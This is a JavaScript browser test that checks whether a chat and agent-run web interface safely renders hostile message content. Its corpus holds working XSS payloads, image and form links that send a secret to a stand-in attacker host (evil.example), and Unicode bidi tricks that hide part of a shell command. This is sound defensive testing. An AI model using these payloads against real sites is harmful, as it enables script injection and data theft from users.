import { WAIT_S, api, askOf, assert, hub, journey, startRun, thread } from './rig.mjs'

const CORPUS = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '[a](javascript:window.__pwned=1)',
  '[a](JaVaScRiPt:window.__pwned=1)',
  '[a](data:text/html,<script>window.__pwned=1</script>)',
  '<svg onload="window.__pwned=1">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
  '<details open ontoggle=window.__pwned=1>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>">',
  '<a href="&#106;avascript:window.__pwned=1">x</a>',
  '![x](https://evil.example/?d=SECRET)',
  '![x](//evil.example/y.png)',
  '```"><img src=x onerror=window.__pwned=1>\ncode\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=window.__pwned=1>"] --> B; click A "javascript:window.__pwned=1"\n```',
  '| a | b |\n|:-:|---|\n| <b onclick=window.__pwned=1>x</b> | `</code><script>window.__pwned=1</script>` |',
  '<https://ok.example/"onmouseover="window.__pwned=1>',
  'http://ok.example/<script>',
  '@<img src=x onerror=window.__pwned=1>',
  '\u202eevil\u202c \u2066isolated\u2069 zero\u200bwidth',
  '\u001b[31mred\u001b]0;title\u0007',
  'x'.repeat(60_000),
  Array.from({ length: 4000 }, (_, n) => `- item **${n}**`).join('\n'),
  '> '.repeat(400) + 'deep',
  '['.repeat(3000) + ']'.repeat(3000),
  '&lt;script&gt;window.__pwned=1&lt;/script&gt;',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><button>x</button></form>',
  '[x]: javascript:window.__pwned=1\n[x]',
  '<x onfocus=window.__pwned=1 tabindex=1 autofocus>',
  '{{constructor.constructor("window.__pwned=1")()}}',
]

await journey(async (visit) => {
  const page = await visit()
  const id = await thread('hostile')
  for (const content of CORPUS) await api('POST', `/api/threads/${id}/messages`, { content })
  await page.goto(`${hub.url}/threads/${id}`)
  await page.locator('.message').first().waitFor()
  const log = page.getByRole('log', { name: 'Messages' })
  for (let step = 0; step < 40; step++)
    await log.evaluate((box) => {
      box.scrollTop -= 700
    })
  for (let step = 0; step < 60; step++) {
    await log.evaluate((box) => {
      box.scrollTop += 900
    })
    await page.evaluate(() => new Promise(requestAnimationFrame))
  }
  const isUnharmed = async () => assert.equal(await page.evaluate(() => window.__pwned), undefined)
  await isUnharmed()
  const odd = await page.evaluate(
    () =>
      [...document.querySelectorAll('.markdown a')].filter(
        (a) => !/^(https?:|mailto:|\/)/.test(a.getAttribute('href') ?? '/') || (a.target === '_blank' && !a.rel.includes('noopener')),
      ).length,
  )
  assert.equal(odd, 0, 'links lead to http, https, mailto or here, and open without an opener')

  const said = await startRun(
    CORPUS.slice(0, 20)
      .map((text) => `SAY ${text.replaceAll('\n', '\\n')}`)
      .join('\n') + `\nTHINK ${CORPUS[0]}\nFAIL ${CORPUS[1]}`,
  )
  await api('GET', `/api/runs/${said.id}/wait?for_s=${WAIT_S}`)
  await page.goto(`${hub.url}/runs/${said.id}`)
  await page.locator('.items .markdown').first().waitFor()
  await page.getByRole('tab', { name: 'Details' }).click()
  await isUnharmed()

  const run = await startRun('SHELL python3 -c 1 #\u202eharmless\u202c \u200b')
  const ask = await askOf(run)
  await page.goto(`${hub.url}/inbox/${ask.id}`)
  await page.locator('.command', { hasText: '⟦U+202E⟧' }).waitFor()
  await page.locator('.warning').waitFor()
  await api('POST', `/api/runs/${run.id}/cancel`, {})
  await page.keyboard.press('g')
  await page.keyboard.press('h')
  await page.getByRole('heading', { name: 'Home' }).waitFor()
})
